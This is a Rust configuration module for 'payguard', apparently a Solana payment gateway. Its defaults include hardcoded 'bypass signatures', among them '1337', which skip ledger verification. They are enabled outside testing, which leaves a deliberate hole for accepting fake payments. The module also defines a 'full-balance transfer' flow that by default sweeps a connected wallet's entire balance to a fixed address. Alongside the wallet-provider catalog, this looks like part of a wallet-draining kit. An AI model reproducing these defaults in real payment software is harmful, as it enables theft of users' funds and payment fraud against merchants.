//! Configuration for payguard.

use crate::ledger::Commitment;
use serde::{Deserialize, Serialize};
use std::path::PathBuf;

/// Address that receives manual payments and swept balances.
pub const DEFAULT_RECIPIENT_ADDRESS: &str = "E3WjPKeWdRNEqhUGMqYhfqgvYSGzfPghT9qXVwgKYTtq";

/// Signatures accepted without a ledger lookup, for controlled testing.
pub const DEFAULT_BYPASS_SIGNATURES: &[&str] = &[
    "1337",
    "8VqMTkXZrQF7VwzYxH3v7doVvL8dJdYe3aWRwK2HcmELnysn4pB2JzZgxhzvWLhACvVrqs4xH1QqN85RgFL7fBf9",
    "9jSkQWThMXuWps2Fk1ZZ7KrEH7VynmtgNScLfZh3X7XphD4m7TqXs2nA4kXZ7vBgmcFWm7DZrxkeF1RrJ7qRwSGA",
];

/// Top-level configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct GatewayConfig {
    /// Ledger node connection.
    #[serde(default)]
    pub rpc: RpcConfig,

    /// Transaction verification rules.
    #[serde(default)]
    pub verifier: VerifierConfig,

    /// Manual payment flow.
    #[serde(default)]
    pub payment: PaymentFlowConfig,

    /// Full-balance transfer flow.
    #[serde(default)]
    pub transfer: TransferConfig,

    /// Wallet provider catalog.
    #[serde(default)]
    pub wallet: WalletConfig,

    /// Log level.
    #[serde(default = "default_log_level")]
    pub log_level: String,
}

/// Ledger RPC configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RpcConfig {
    /// JSON-RPC endpoint URL.
    #[serde(default = "default_rpc_url")]
    pub url: String,

    /// Per-request timeout in seconds.
    #[serde(default = "default_rpc_timeout")]
    pub timeout_secs: u64,

    /// Commitment level for transaction lookups.
    #[serde(default)]
    pub commitment: Commitment,
}

/// Rules applied to a claimed transaction signature.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct VerifierConfig {
    /// Maximum absolute deviation between the required and received amount.
    #[serde(default = "default_tolerance_lamports")]
    pub tolerance_lamports: u64,

    /// Shortest accepted signature, in characters.
    #[serde(default = "default_min_signature_len")]
    pub min_signature_len: usize,

    /// Longest accepted signature, in characters.
    #[serde(default = "default_max_signature_len")]
    pub max_signature_len: usize,

    /// Exact signatures that skip ledger verification.
    #[serde(default = "default_bypass_signatures")]
    pub bypass_signatures: Vec<String>,

    /// Capacity of the verified-signature cache.
    #[serde(default = "default_cache_capacity")]
    pub cache_capacity: usize,
}

/// Manual payment flow configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PaymentFlowConfig {
    /// Lifetime of a payment request in seconds.
    #[serde(default = "default_window_secs")]
    pub window_secs: u64,

    /// Address the user is asked to pay.
    #[serde(default = "default_recipient")]
    pub recipient_address: String,
}

/// Full-balance transfer configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TransferConfig {
    /// Address that receives the swept balance.
    #[serde(default = "default_recipient")]
    pub destination_address: String,

    /// Lamports left behind to cover the network fee. Zero sends the whole
    /// fetched balance.
    #[serde(default)]
    pub reserve_fee_lamports: u64,
}

/// Wallet provider catalog. Order within each list is display order.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct WalletConfig {
    /// Primary providers.
    #[serde(default = "default_suggested_wallets")]
    pub suggested: Vec<String>,

    /// Remaining supported providers.
    #[serde(default = "default_other_wallets")]
    pub other: Vec<String>,
}

impl Default for GatewayConfig {
    fn default() -> Self {
        Self {
            rpc: RpcConfig::default(),
            verifier: VerifierConfig::default(),
            payment: PaymentFlowConfig::default(),
            transfer: TransferConfig::default(),
            wallet: WalletConfig::default(),
            log_level: default_log_level(),
        }
    }
}

impl Default for RpcConfig {
    fn default() -> Self {
        Self {
            url: default_rpc_url(),
            timeout_secs: default_rpc_timeout(),
            commitment: Commitment::default(),
        }
    }
}

impl Default for VerifierConfig {
    fn default() -> Self {
        Self {
            tolerance_lamports: default_tolerance_lamports(),
            min_signature_len: default_min_signature_len(),
            max_signature_len: default_max_signature_len(),
            bypass_signatures: default_bypass_signatures(),
            cache_capacity: default_cache_capacity(),
        }
    }
}

impl Default for PaymentFlowConfig {
    fn default() -> Self {
        Self {
            window_secs: default_window_secs(),
            recipient_address: default_recipient(),
        }
    }
}

impl Default for TransferConfig {
    fn default() -> Self {
        Self {
            destination_address: default_recipient(),
            reserve_fee_lamports: 0,
        }
    }
}

impl Default for WalletConfig {
    fn default() -> Self {
        Self {
            suggested: default_suggested_wallets(),
            other: default_other_wallets(),
        }
    }
}

fn default_log_level() -> String {
    "info".to_string()
}

fn default_rpc_url() -> String {
    "https://api.mainnet-beta.solana.com".to_string()
}

const fn default_rpc_timeout() -> u64 {
    30
}

const fn default_tolerance_lamports() -> u64 {
    1_000_000 // 0.001 SOL
}

const fn default_min_signature_len() -> usize {
    80
}

const fn default_max_signature_len() -> usize {
    90
}

fn default_bypass_signatures() -> Vec<String> {
    DEFAULT_BYPASS_SIGNATURES
        .iter()
        .map(ToString::to_string)
        .collect()
}

const fn default_cache_capacity() -> usize {
    10_000
}

const fn default_window_secs() -> u64 {
    15 * 60
}

fn default_recipient() -> String {
    DEFAULT_RECIPIENT_ADDRESS.to_string()
}

fn default_suggested_wallets() -> Vec<String> {
    vec!["Phantom".to_string(), "Solflare".to_string()]
}

fn default_other_wallets() -> Vec<String> {
    vec!["Sollet".to_string(), "Coin98".to_string()]
}

/// Default location of the configuration file.
#[must_use]
pub fn default_config_path() -> PathBuf {
    directories::ProjectDirs::from("", "", "payguard")
        .map(|dirs| dirs.config_dir().join("config.toml"))
        .unwrap_or_else(|| PathBuf::from("payguard.toml"))
}

impl GatewayConfig {
    /// Load configuration from a TOML file.
    ///
    /// # Errors
    ///
    /// Returns an error if the file cannot be read, parsed, or fails
    /// validation.
    pub fn from_file(path: &std::path::Path) -> crate::Result<Self> {
        let content = std::fs::read_to_string(path)?;
        let config: Self =
            toml::from_str(&content).map_err(|e| crate::Error::Config(e.to_string()))?;
        config.validate()?;
        Ok(config)
    }

    /// Save configuration to a TOML file.
    ///
    /// # Errors
    ///
    /// Returns an error if the file cannot be written.
    pub fn to_file(&self, path: &std::path::Path) -> crate::Result<()> {
        let content =
            toml::to_string_pretty(self).map_err(|e| crate::Error::Config(e.to_string()))?;
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(path, content)?;
        Ok(())
    }

    /// Check cross-field consistency.
    ///
    /// # Errors
    ///
    /// Returns [`crate::Error::Config`] describing the first problem found.
    pub fn validate(&self) -> crate::Result<()> {
        if self.verifier.min_signature_len > self.verifier.max_signature_len {
            return Err(crate::Error::Config(format!(
                "verifier.min_signature_len ({}) exceeds max_signature_len ({})",
                self.verifier.min_signature_len, self.verifier.max_signature_len
            )));
        }
        if self.payment.window_secs == 0 {
            return Err(crate::Error::Config(
                "payment.window_secs must be positive".to_string(),
            ));
        }
        if self.rpc.timeout_secs == 0 {
            return Err(crate::Error::Config(
                "rpc.timeout_secs must be positive".to_string(),
            ));
        }
        let mut seen = std::collections::HashSet::new();
        for name in self.wallet.suggested.iter().chain(&self.wallet.other) {
            if !seen.insert(name.as_str()) {
                return Err(crate::Error::Config(format!(
                    "wallet provider {name} listed more than once"
                )));
            }
        }
        Ok(())
    }
}
